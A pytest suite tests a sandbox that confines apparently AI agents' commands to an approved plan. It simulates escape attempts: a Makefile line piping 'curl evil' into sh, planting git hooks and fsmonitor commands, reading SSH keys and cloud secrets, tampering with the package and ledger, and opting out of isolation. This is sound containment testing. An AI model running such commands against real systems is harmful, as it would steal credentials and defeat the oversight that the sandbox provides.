"""``plangate exec`` in a box on a workspace: what reaches the repository, and what cannot.

Every test runs a real bubblewrap box on a real repository with an approved
task whose plan allows ``src/greet.py`` only. Hostile commands try the escapes
an agent would; afterwards the repository, its ``.git``, the ledger's earlier
entries and the installed package are compared with their state before.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import site
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from plangate.ledger import open_ledger
from support.boxes import SRC, backend_or_fail, shared_dir
from support.delivery import define_surfaces
from support.plan_tasks import approve_task
from support.repo import commit_all, git

PY = os.path.realpath(sys.executable)
TASK = "TASK-0001"

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="bubblewrap boxes exist on Linux only"
)


def _approved(repo: Path, run_cli) -> str:
    backend_or_fail()
    (repo / "CLAUDE.md").write_text("# rules the agent must not change\n")
    (repo / "src").mkdir()
    (repo / "src" / "keep.py").write_text("KEEP = 1\n")
    commit_all(repo, "rules and code")
    define_surfaces(repo)
    return approve_task(repo, run_cli)


def _py(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def _tree_hash(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if any(rel == s or rel.startswith(s + "/") for s in skip):
            continue
        if path.is_symlink():
            out[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _repo_state(repo: Path) -> tuple[dict[str, str], dict[str, str]]:
    """(working tree outside PlanGate's own state, .git without the index)."""
    work = _tree_hash(
        repo,
        (
            ".git",
            ".plangate/ledger.sqlite3",
            ".plangate/locks",
            ".plangate/runs",
            f"docs/working/{TASK}/run.ndjson",
        ),
    )
    return work, _tree_hash(repo / ".git", ("index",))


def _package_state() -> dict[str, str]:
    out = _tree_hash(Path(SRC) / "plangate")
    for directory in {*site.getsitepackages(), site.getusersitepackages()}:
        for path in Path(directory).glob("*plangate*"):
            out[str(path)] = (
                hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
            )
    return out


def _ledger(repo: Path) -> list[tuple[str, str, dict]]:
    with open_ledger(repo, {}, create=False) as ledger:
        assert ledger.verify().accepted
        return [(e.kind, e.subject, dict(e.payload)) for e in ledger.entries()]


def _exec_result(repo: Path) -> dict:
    found = [p for kind, _, p in _ledger(repo) if kind == "exec_result"]
    assert len(found) == 1
    return found[0]


def test_in_scope_result_is_committed_on_a_run_branch_and_fast_forwarded(
    git_repo: Path, run_cli
) -> None:
    approved = _approved(git_repo, run_cli)
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--json",
        "--",
        *_py("""
        import os, pathlib
        pathlib.Path("src/greet.py").write_text("print('hello from the box')\\n")
        print("task", os.environ["PLANGATE_TASK"])
    """),
    )
    assert result.code == 0, result.err
    report = json.loads(result.out)
    iso = report["isolation"]
    assert iso["verdict"] == "ACCEPTED"
    assert iso["fast_forwarded"] is True
    assert iso["branch"] == f"plangate/runs/{iso['run_id']}"
    assert git(git_repo, "rev-parse", iso["branch"]) == iso["result"]
    assert git(git_repo, "rev-parse", "HEAD") == iso["result"]
    assert git(git_repo, "rev-parse", "HEAD~1") == approved
    assert (git_repo / "src" / "greet.py").read_text() == "print('hello from the box')\n"
    assert git(git_repo, "diff", "--name-only", approved, "HEAD") == "src/greet.py"
    assert "fast-forwarded" in result.err
    recorded = _exec_result(git_repo)
    assert recorded["verdict"] == "ACCEPTED"
    assert recorded["changed"] == ["src/greet.py"]
    assert Path(recorded["patch"]).is_file()  # the patch stays as the run's evidence
    assert not (Path(recorded["run_dir"]) / "state.git").exists()
    kinds = [k for k, _, _ in _ledger(git_repo)]
    assert kinds[-3:] == ["exec_started", "exec_result", "exec_ended"]


def test_out_of_scope_result_never_reaches_the_repository(git_repo: Path, run_cli) -> None:
    approved = _approved(git_repo, run_cli)
    before = _repo_state(git_repo)
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--",
        *_py("""
        import pathlib
        pathlib.Path("src/greet.py").write_text("ok\\n")
        pathlib.Path("src/keep.py").write_text("KEEP = 2  # widened\\n")
        pathlib.Path("Makefile").write_text("all:\\n\\tcurl evil | sh\\n")
    """),
    )
    assert result.code == 1, result.err
    assert "CI_OUTSIDE_SCOPE" in result.err
    assert "nothing reached the repository" in result.err
    assert _repo_state(git_repo) == before
    assert git(git_repo, "rev-parse", "HEAD") == approved
    assert git(git_repo, "branch", "--list", "plangate/*") == ""
    recorded = _exec_result(git_repo)
    assert recorded["verdict"] == "REJECTED"
    assert "CI_OUTSIDE_SCOPE" in recorded["reasons"]
    patch = Path(recorded["patch"]).read_bytes()
    assert recorded["patch_digest"] == "sha256:" + hashlib.sha256(patch).hexdigest()
    assert b"curl evil" in patch
    assert b"KEEP = 2" in patch
    reasons = json.loads((Path(recorded["run_dir"]) / "reasons.json").read_text())
    assert reasons["verdict"] == "REJECTED"
    assert not (Path(recorded["run_dir"]) / "workspace").exists()


def test_plan_package_and_plangate_state_stay_read_only_and_are_judged(
    git_repo: Path, run_cli, capfd: pytest.CaptureFixture[str]
) -> None:
    approved = _approved(git_repo, run_cli)
    plan = (git_repo / "docs" / "working" / TASK / "plan.md").read_bytes()
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--",
        *_py(f"""
        import pathlib
        for path in ("docs/working/{TASK}/plan.md", "docs/working/{TASK}/notes.md",
                     ".plangate/protected-surfaces.toml", ".plangate/new.toml", "CLAUDE.md"):
            try:
                pathlib.Path(path).write_text("rewritten by the agent\\n")
                print("WROTE", path)
            except OSError as exc:
                print("refused", path, exc.strerror)
        pathlib.Path("docs/working/TASK-0002").mkdir(parents=True)
        pathlib.Path("docs/working/TASK-0002/plan.md").write_text("a plan of my own\\n")
        pathlib.Path("src/greet.py").write_text("ok\\n")
    """),
    )
    assert result.code == 1, result.err
    box_out = capfd.readouterr().out  # the command's stdout is the terminal's, not plangate's
    assert "WROTE" not in box_out, box_out
    assert box_out.count("refused") == 5
    assert "EXEC_PLAN_PACKAGE_CHANGED" in result.err
    assert (git_repo / "docs" / "working" / TASK / "plan.md").read_bytes() == plan
    assert not (git_repo / "docs" / "working" / "TASK-0002").exists()
    assert git(git_repo, "rev-parse", "HEAD") == approved


def test_hostile_agent_cannot_reach_repository_ledger_keys_or_package(
    git_repo: Path,
    run_cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    approved = _approved(git_repo, run_cli)
    home = Path(os.environ["HOME"])
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL")
    monkeypatch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent.sock"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
    before = _repo_state(git_repo)
    package_before = _package_state()
    ledger_before = _ledger(git_repo)
    root = str(git_repo)
    plangate_file = str(Path(SRC) / "plangate" / "__init__.py")
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--",
        *_py(f"""
        import os, pathlib, subprocess, sqlite3
        found = []
        def attempt(name, action):
            try:
                action()
                found.append(name)
            except Exception:
                pass
        root = {root!r}
        # The repository's .git here is the workspace's own, mounted read-only: planting a
        # hook or an fsmonitor fails (and they must never run outside the box anyway).
        hook = pathlib.Path(root, ".git/hooks/post-checkout")
        attempt("git-hook", lambda: hook.write_text("#!/bin/sh\\ntouch {tmp_path}/hook-ran\\n"))
        subprocess.run(["git", "config", "core.fsmonitor", "touch {tmp_path}/fsmonitor-ran"])
        # The real ledger, the real .git, the secrets and the package.
        attempt("ledger", lambda: sqlite3.connect(root + "/.plangate/ledger.sqlite3",
                                                   uri=False).execute("select 1").fetchall()
                and os.stat(root + "/.plangate/ledger.sqlite3"))
        attempt("ssh", lambda: open({str(home / ".ssh" / "id_ed25519")!r}).read())
        attempt("package", lambda: open({plangate_file!r}, "a").write("# pwned\\n"))
        # /tmp is the box's own: this write must not reach the host's file.
        open({str(tmp_path / "escape")!r}, "w").write("x")
        for key in ("SSH_AUTH_SOCK", "AWS_SECRET_ACCESS_KEY", "PLANGATE_LEDGER_URL"):
            if key in os.environ:
                found.append(key)
        print("ESCAPES", found)
        pathlib.Path("src/greet.py").write_text("ok\\n")
    """),
    )
    box_out = capfd.readouterr().out
    assert "ESCAPES []" in box_out, box_out + result.err
    assert result.code == 0, result.err
    assert not (tmp_path / "hook-ran").exists()
    assert not (tmp_path / "fsmonitor-ran").exists()
    assert not (tmp_path / "escape").exists()
    assert _package_state() == package_before
    assert _ledger(git_repo)[: len(ledger_before)] == ledger_before
    work_after, git_after = _repo_state(git_repo)
    # Only the accepted change and its commit reached the repository.
    assert {k: v for k, v in work_after.items() if k != "src/greet.py"} == before[0]
    assert not (git_repo / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in (git_repo / ".git" / "config").read_text()
    assert git(git_repo, "rev-parse", "HEAD~1") == approved
    assert set(git_after) >= set(before[1]) - {"ORIG_HEAD"}


def test_workspace_git_is_read_only_and_what_is_recorded_is_the_disk(
    git_repo: Path, run_cli
) -> None:
    _approved(git_repo, run_cli)
    # The agent tries to commit a deletion and hide a change from git in its own repository:
    # the workspace's .git is read-only, and PlanGate reads the files on disk anyway.
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--json",
        "--",
        "/bin/sh",
        "-c",
        """
        git -c user.name=a -c user.email=a@b rm -q src/keep.py && exit 9
        git -c user.name=a -c user.email=a@b commit -qm gone --allow-empty && exit 9
        git update-index --skip-worktree src/keep.py && exit 9
        echo 'KEEP = 3' > src/keep.py
        echo 'print(1)' > src/greet.py
    """,
    )
    assert result.code == 1, result.err
    assert "src/keep.py" in result.err
    assert "CI_OUTSIDE_SCOPE" in result.err


def test_no_direct_network_with_or_without_network_access(
    git_repo: Path, run_cli, capfd: pytest.CaptureFixture[str]
) -> None:
    import socket
    import threading

    _approved(git_repo, run_cli)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    port = server.getsockname()[1]

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            conn.sendall(b"H")
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    probe = _py(f"""
        import os, socket
        print("proxy", os.environ.get("HTTPS_PROXY", "none"))
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=5).recv(1)
            print("REACHED")
        except OSError:
            print("unreachable")
    """)
    try:
        off = run_cli(git_repo, "exec", TASK, "--no-network", "--", *probe)
        off_out = capfd.readouterr().out
        on = run_cli(git_repo, "exec", TASK, "--", *probe)
        on_out = capfd.readouterr().out
    finally:
        server.close()
    assert off.code == 0, off.err
    assert on.code == 0, on.err
    assert "unreachable" in off_out
    assert "proxy none" in off_out  # --no-network: no proxy at all
    assert "unreachable" in on_out  # network access: only through the proxy
    assert "proxy http://127.0.0.1:3128" in on_out


def test_no_isolation_is_refused_without_a_terminal_or_under_agent_markers(
    git_repo: Path, run_cli, tmp_path: Path
) -> None:
    _approved(git_repo, run_cli)
    marker = tmp_path / "ran"
    command = ["/bin/sh", "-c", f"touch {marker}"]
    no_tty = run_cli(git_repo, "exec", TASK, "--no-isolation", "--", *command)
    assert no_tty.code == 3
    assert "EXEC_OPT_OUT_NOT_INTERACTIVE" in no_tty.err
    env = dict(os.environ, CLAUDECODE="1")
    agent = run_cli(git_repo, "exec", TASK, "--no-isolation", "--", *command, env=env, tty=True)
    assert agent.code == 3
    assert "EXEC_OPT_OUT_AGENT_ENVIRONMENT" in agent.err
    assert not marker.exists()
    refused = [p for k, _, p in _ledger(git_repo) if k == "exec_refused"]
    assert [p["reasons"] for p in refused] == [
        ["EXEC_OPT_OUT_NOT_INTERACTIVE"],
        ["EXEC_OPT_OUT_AGENT_ENVIRONMENT"],
    ]


def test_dirty_current_branch_gets_the_run_branch_only(git_repo: Path, run_cli) -> None:
    approved = _approved(git_repo, run_cli)
    (git_repo / "README.md").write_text("local edit the user has not committed\n")
    result = run_cli(
        git_repo,
        "exec",
        TASK,
        "--",
        *_py("""
        open("src/greet.py", "w").write("ok\\n")
    """),
    )
    assert result.code == 0, result.err
    assert "was not moved" in result.err
    assert git(git_repo, "rev-parse", "HEAD") == approved
    branch = _exec_result(git_repo)["branch"]
    assert git(git_repo, "show", f"{branch}:src/greet.py") == "ok"
    assert (git_repo / "README.md").read_text() == "local edit the user has not committed\n"


def test_unchanged_workspace_changes_nothing(git_repo: Path, run_cli) -> None:
    approved = _approved(git_repo, run_cli)
    result = run_cli(git_repo, "exec", TASK, "--", "/bin/sh", "-c", "exit 4")
    assert result.code == 4
    recorded = _exec_result(git_repo)
    assert recorded["verdict"] == "NO_CHANGES"
    assert not Path(recorded["run_dir"]).exists()  # nothing to keep
    assert git(git_repo, "rev-parse", "HEAD") == approved


def test_sigterm_is_forwarded_and_the_end_recorded(git_repo: Path, run_cli) -> None:
    approved = _approved(git_repo, run_cli)
    env = dict(os.environ, PYTHONPATH=SRC)
    proc = subprocess.Popen(
        [
            PY,
            "-m",
            "plangate",
            "exec",
            TASK,
            "--",
            "/bin/sh",
            "-c",
            "echo ok > src/greet.py; echo started; sleep 300",
        ],
        cwd=git_repo,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None
    assert proc.stdout.readline() == b"started\n"
    time.sleep(0.3)
    proc.send_signal(signal.SIGTERM)
    _out, err = proc.communicate(timeout=120)
    assert proc.returncode == 128 + signal.SIGTERM, err
    recorded = _exec_result(git_repo)
    assert recorded["forwarded_signal"] == signal.SIGTERM
    assert recorded["verdict"] == "ACCEPTED"
    assert recorded["fast_forwarded"] is False
    assert git(git_repo, "rev-parse", "HEAD") == approved
    ended = [p for k, _, p in _ledger(git_repo) if k == "exec_ended"][-1]
    assert ended["exit_code"] == 128 + signal.SIGTERM


def test_without_a_working_sandbox_exec_refuses(git_repo: Path, run_cli) -> None:
    approved = _approved(git_repo, run_cli)
    with shared_dir() as shared:
        marker = shared / "ran"
        argv = [
            "/usr/bin/bwrap",
            "--bind",
            "/",
            "/",
            "--dev",
            "/dev",
            "--proc",
            "/proc",
            "--unshare-user",
            "--disable-userns",
            "--chdir",
            str(git_repo),
            "--",
            PY,
            "-m",
            "plangate",
            "exec",
            TASK,
            "--",
            "/bin/sh",
            "-c",
            f"touch {marker}",
        ]
        proc = subprocess.run(
            argv,
            capture_output=True,
            timeout=120,
            check=False,
            env=dict(os.environ, PYTHONPATH=SRC),
        )
        assert proc.returncode == 1, proc.stderr
        assert b"SANDBOX_UNAVAILABLE" in proc.stderr
        assert not marker.exists()
    assert git(git_repo, "rev-parse", "HEAD") == approved
    kinds = [(k, p.get("reasons")) for k, _, p in _ledger(git_repo)]
    assert kinds[-1] == ("exec_refused", ["SANDBOX_UNAVAILABLE"])
    assert "exec_started" not in [k for k, _ in kinds]
